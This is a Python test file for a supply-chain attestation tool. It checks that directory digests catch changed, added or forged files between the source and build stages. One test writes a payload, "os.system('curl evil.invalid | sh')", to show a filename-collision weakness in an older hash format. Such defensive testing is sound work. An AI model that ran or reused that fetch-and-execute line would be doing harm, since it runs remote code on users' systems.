"""`follows` works with directory digests, per-file entries, and a mix of both."""

from __future__ import annotations

from tests.harness import Pipeline, codes


def test_dir_to_dir(pipeline: Pipeline) -> None:
    pipeline.write_two_stage_policy()
    pipeline.attest("source", product_dirs=["src"])
    artifact = pipeline.build_artifact()
    pipeline.attest("build", material_dirs=["src"], products=["dist/*"])
    assert pipeline.verify(artifact).allowed


def test_files_then_dir_and_dir_then_files(pipeline: Pipeline) -> None:
    pipeline.write_two_stage_policy()
    pipeline.attest("source", products=["src/**"])
    artifact = pipeline.build_artifact()
    pipeline.attest("build", material_dirs=["src"], products=["dist/*"])
    assert pipeline.verify(artifact).allowed


def test_dir_then_files(pipeline: Pipeline) -> None:
    pipeline.write_two_stage_policy()
    pipeline.attest("source", product_dirs=["src"])
    artifact = pipeline.build_artifact()
    pipeline.attest("build", materials=["src/**"], products=["dist/*"])
    assert pipeline.verify(artifact).allowed


def test_dir_digest_catches_a_changed_file(pipeline: Pipeline) -> None:
    pipeline.write_two_stage_policy()
    pipeline.attest("source", product_dirs=["src"])
    (pipeline.repo_path / "src" / "lib.py").write_text("X = 2\n")
    artifact = pipeline.build_artifact()
    pipeline.attest("build", material_dirs=["src"], products=["dist/*"])
    verdict = pipeline.verify(artifact)
    assert codes(verdict) == {"verify/chain-broken"}
    assert "src/" in verdict.reasons[0].message


def test_dir_digest_catches_an_added_file(pipeline: Pipeline) -> None:
    pipeline.write_two_stage_policy()
    pipeline.attest("source", products=["src/**"])
    (pipeline.repo_path / "src" / "injected.py").write_text("import os\n")
    artifact = pipeline.build_artifact()
    pipeline.attest("build", material_dirs=["src"], products=["dist/*"])
    assert codes(pipeline.verify(artifact)) == {"verify/chain-broken"}


def test_directory_attestation_stays_small(pipeline: Pipeline) -> None:
    many = pipeline.repo_path / "many"
    many.mkdir()
    for i in range(2000):
        (many / f"f{i}.txt").write_text(str(i))
    result = pipeline.attest("source", product_dirs=["many"])
    assert len(result.predicate.products) == 1
    assert result.predicate.products[0].count == 2000
    env_file = pipeline.store / "envelopes" / f"{result.envelope_id}.json"
    assert env_file.stat().st_size < 4096


def test_a_file_name_imitating_a_digest_line_does_not_hide_a_change(pipeline: Pipeline) -> None:
    """Version 1 hashed unescaped ``<sha256>  <name>`` lines: a name holding a newline and
    the text of another line made two different trees hash the same."""
    import hashlib
    import shutil

    pipeline.write_two_stage_policy()
    src = pipeline.repo_path / "src"
    shutil.rmtree(src)
    src.mkdir()
    payload = b"import os; os.system('curl evil.invalid | sh')\n"
    hello = "print('hello')\n"
    # One file whose name holds a newline: its version-1 line, "<sha of hello>  app.py\n<sha
    # of payload>  zz_injected.py\n", is exactly the two lines of the tree below.
    forged = f"app.py\n{hashlib.sha256(payload).hexdigest()}  zz_injected.py"
    (src / forged).write_text(hello)
    pipeline.attest("source", product_dirs=["src"])
    # Between the stages the forged name goes, and app.py and the injected file appear.
    (src / forged).unlink()
    (src / "app.py").write_text(hello)
    (src / "zz_injected.py").write_bytes(payload)
    artifact = pipeline.build_artifact()
    pipeline.attest("build", material_dirs=["src"], products=["dist/*"])
    verdict = pipeline.verify(artifact)
    assert codes(verdict) == {"verify/chain-broken"}


def _legacy_dir_stage(pipeline: Pipeline, stage: str, *, as_product: bool) -> None:
    from datetime import UTC, datetime

    from gatekeeper.models.statement import Artifact, RunInfo, StagePredicate

    now = datetime.now(UTC)
    legacy = Artifact(name="src/", digest={"sha256": "ab" * 32}, kind="dir", count=2)
    artifact = pipeline.build_artifact()
    import hashlib

    product = Artifact(
        name="dist/app-1.0.tar.gz",
        digest={"sha256": hashlib.sha256(artifact.read_bytes()).hexdigest()},
    )
    pipeline.store_predicate(
        StagePredicate(
            stage=stage,
            started_at=now,
            finished_at=now,
            materials=[] if as_product else [legacy],
            products=[legacy] if as_product else [product],
            run=RunInfo(run_id="run-1", source_commit="c" * 40),
        )
    )


def test_version_1_directory_digests_are_refused(pipeline: Pipeline) -> None:
    pipeline.write_two_stage_policy()
    _legacy_dir_stage(pipeline, "source", as_product=True)
    _legacy_dir_stage(pipeline, "build", as_product=False)
    verdict = pipeline.verify(pipeline.repo_path / "dist" / "app-1.0.tar.gz")
    assert codes(verdict) == {"verify/chain-broken"}
    assert "version-1 encoding" in verdict.reasons[0].message
